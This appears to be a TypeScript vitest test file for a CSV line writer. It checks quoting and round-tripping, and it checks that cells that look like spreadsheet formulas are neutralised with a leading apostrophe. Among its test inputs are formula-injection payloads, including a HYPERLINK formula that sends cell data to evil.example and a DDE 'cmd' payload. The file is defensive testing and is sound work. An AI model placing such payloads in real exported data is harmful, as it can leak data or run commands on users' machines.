import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

/** Parses one line as RFC 4180 defines it. */
function read(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells: string[] = [];
  const cell = /(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gy;
  const body = line.slice(0, -2);
  while (cell.lastIndex < body.length || cells.length === 0) {
    const found = cell.exec(body);
    if (found === null) throw new Error(`no CSV at ${cell.lastIndex}: ${line}`);
    cells.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
  }
  return cells;
}

describe('a line', () => {
  test('ends with CR LF, quotes cells if needed and doubles quotes', () => {
    expect(csvLine(['a', 'b c', null, ''])).toBe('a,b c,,\r\n');
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines'])).toBe(
      '"a,b","say ""hi""","two\nlines","two\r\nlines"\r\n',
    );
  });

  test.each([
    'plain',
    'Ångström 🎯 日本語',
    'a,b;c',
    '""',
    'a"b,"c"',
    'line\r\nline\nline\rline',
    'C:\\path',
    'a=b',
    'a - b + c @ d',
    'x@y.example',
    '{"name":"=1+1","n":-1}',
    '2026-11-21T19:00:00.000Z',
    '01890a5d-ac96-774b-bcce-b302099a8057',
  ])('gives %j back as it was', (text) => {
    expect(read(csvLine([text, 'next']))).toEqual([text, 'next']);
  });
});

describe('a possible formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\tplain',
    '\rplain',
    '\nplain',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    ' =1',
    '\u00a0=1',
    '\u3000＝1',
    '\ufeff=1',
    '\u200b=1',
    '\u202e=1',
    '"=1',
    "'=1",
    '"" =1',
    '“=1',
  ])('%j begins with an apostrophe and is otherwise as it was', (text) => {
    expect(read(csvLine([text]))).toEqual([`'${text}`]);
  });

  test.each([
    ['Clan;=1+1', "Clan;'=1+1"],
    ['Clan; "=1+1', 'Clan;\' "=1+1'],
    ['Clan\t@SUM(A1)', "Clan\t'@SUM(A1)"],
    ['Clan\n=1\r\n+2', "Clan\n'=1\r\n'+2"],
    ['\t=1', "'\t'=1"],
    ['\r\n=1', "'\r\n'=1"],
    ['=1;=2', "'=1;'=2"],
  ])('%j gets its apostrophes after other separators too', (text, shown) => {
    expect(read(csvLine([text]))).toEqual([shown]);
  });

  test('is found in linear time', () => {
    const text = `a${';'.repeat(30_000)}${';\t\n "'.repeat(30_000)}${' '.repeat(30_000)}`;
    const begin = performance.now();
    expect(read(csvLine([text]))).toEqual([text]);
    expect(performance.now() - begin).toBeLessThan(2000);
  });
});
